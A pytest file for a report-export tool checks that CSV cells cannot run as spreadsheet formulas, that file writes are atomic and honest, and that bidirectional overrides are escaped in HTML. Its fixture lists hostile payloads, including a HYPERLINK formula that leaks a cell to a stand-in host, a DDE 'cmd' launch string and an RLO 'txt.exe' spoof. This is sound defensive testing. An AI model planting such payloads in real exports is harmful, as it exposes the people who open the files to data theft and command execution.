"""Hostile text on the way out (issue 11): no CSV cell a spreadsheet would run, ``-o`` atomic and honest about what
it replaces, bidirectional overrides shown rather than obeyed in HTML, a claim with one total drawn."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from pathlib import Path

import pytest
from click.testing import CliRunner

from sitrep.cli import main
from sitrep.report.export import FORMULA_STARTS, csv_safe_cell, write_atomically
from sitrep.store import Store

CLAIM = "The Islamic State said in its al-Naba newspaper that it carried out 40 operations in Iraq in the past 7 days."
EVENT = "Gunmen killed 3 soldiers at a checkpoint in Baqubah on Monday."
HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1", "＝1+1"]


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    records = [{"text": CLAIM, "source": HOSTILE[0], "title": HOSTILE[1], "url": HOSTILE[3]},
               {"text": EVENT, "source": HOSTILE[2], "title": HOSTILE[4] + " \u202etxt.exe", "url": HOSTILE[5]},
               {"text": EVENT + " Two more were wounded.", "source": HOSTILE[6], "title": "plain"}]
    (folder / "feed.jsonl").write_text("\n".join(json.dumps(r) for r in records) + "\n", encoding="utf-8")
    path = folder / "t.duckdb"
    result = CliRunner().invoke(main, ["ingest", str(folder / "feed.jsonl"), "--db", str(path),
                                       "--published", "2020-10-08"])
    assert result.exit_code == 0, result.output
    return path


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _runs_as_formula(cell: str) -> bool:
    return bool(cell) and cell[0] in FORMULA_STARTS


@pytest.mark.parametrize("args", [["events", "--format", "csv"], ["events", "--format", "acled-csv"],
                                  ["claims", "--format", "csv"],
                                  ["summary", "--by", "claimant", "--format", "csv"]])
def test_no_csv_output_writes_a_cell_a_spreadsheet_would_run(db: Path, tmp_path: Path, args: list[str]) -> None:
    out = tmp_path / "out.csv"
    extra = ["-o", str(out)] if args[0] != "summary" else []
    result = CliRunner().invoke(main, [*args, "--db", str(db), *extra])
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8") if extra else result.stdout
    cells = _cells(text)
    assert not [cell for cell in cells if _runs_as_formula(cell)]
    if args[0] == "events":
        assert any(cell.startswith("'-2+3") or cell.startswith("'＝1+1") for cell in cells)


def test_a_negative_number_in_a_csv_stays_a_number() -> None:
    assert csv_safe_cell(-2.5) == -2.5
    assert csv_safe_cell("=1") == "'=1"
    assert csv_safe_cell("Raqqa") == "Raqqa"


def test_o_keeps_an_existing_files_permissions_and_says_it_replaced_it(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "events.csv"
    out.write_text("old\n")
    os.chmod(out, 0o600)
    result = CliRunner().invoke(main, ["events", "--db", str(db), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert f"replaced the existing file {out} (its permissions are kept)" in result.stderr
    assert out.read_text().startswith("id,")


def test_o_replaces_a_symbolic_link_not_its_target_and_says_so(db: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    link = tmp_path / "report.html"
    link.symlink_to(victim)
    result = CliRunner().invoke(main, ["report", "--db", str(db), "-o", str(link)])
    assert result.exit_code == 0, result.output
    assert f"replaced the symbolic link {link} (it pointed to {victim}, which is unchanged)" in result.stderr
    assert victim.read_text() == "keep me\n"
    assert not link.is_symlink() and "<html" in link.read_text(encoding="utf-8")


def test_a_new_file_gets_no_replacement_notice(db: Path, tmp_path: Path) -> None:
    result = CliRunner().invoke(main, ["claims", "--db", str(db), "--format", "json", "-o", str(tmp_path / "c.json")])
    assert result.exit_code == 0 and "replaced" not in result.stderr


def test_a_failed_write_names_the_target_not_the_temporary_file(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"

    def fail(path: Path) -> None:
        raise OSError(28, "No space left on device", str(path))

    from sitrep.errors import ReportError

    with pytest.raises(ReportError) as caught:
        write_atomically(target, fail)
    assert str(caught.value) == f"{target}: cannot write (No space left on device); choose another -o"
    assert not list(tmp_path.iterdir())


def test_an_export_into_an_unwritable_place_names_the_file_in_one_line(db: Path, tmp_path: Path) -> None:
    target = "/proc/sitrep-cannot-write-here.csv"
    result = CliRunner().invoke(main, ["events", "--db", str(db), "-o", target])
    assert result.exit_code == 1
    [line] = result.stderr.strip().splitlines()
    assert line.startswith(f"Error: {target}: cannot write (") and ".part" not in line and "{" not in line


def test_right_to_left_overrides_are_shown_not_obeyed_in_the_html_report(db: Path, tmp_path: Path) -> None:
    out = tmp_path / "r.html"
    result = CliRunner().invoke(main, ["report", "--db", str(db), "-o", str(out)])
    assert result.exit_code == 0, result.output
    page = out.read_text(encoding="utf-8")
    assert "\u202e" not in page
    assert "[U+202E]txt.exe" in page


def test_report_claim_draws_a_claim_with_exactly_one_total(db: Path, tmp_path: Path) -> None:
    with Store(db, read_only=True) as store:
        [claim] = store.claims()
    assert len([f for f in claim.figures if not f.facets()]) == 1
    out = tmp_path / "claim.svg"
    result = CliRunner().invoke(main, ["report", "--db", str(db), "--claim", claim.id, "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert out.read_text(encoding="utf-8").lstrip().startswith("<?xml")
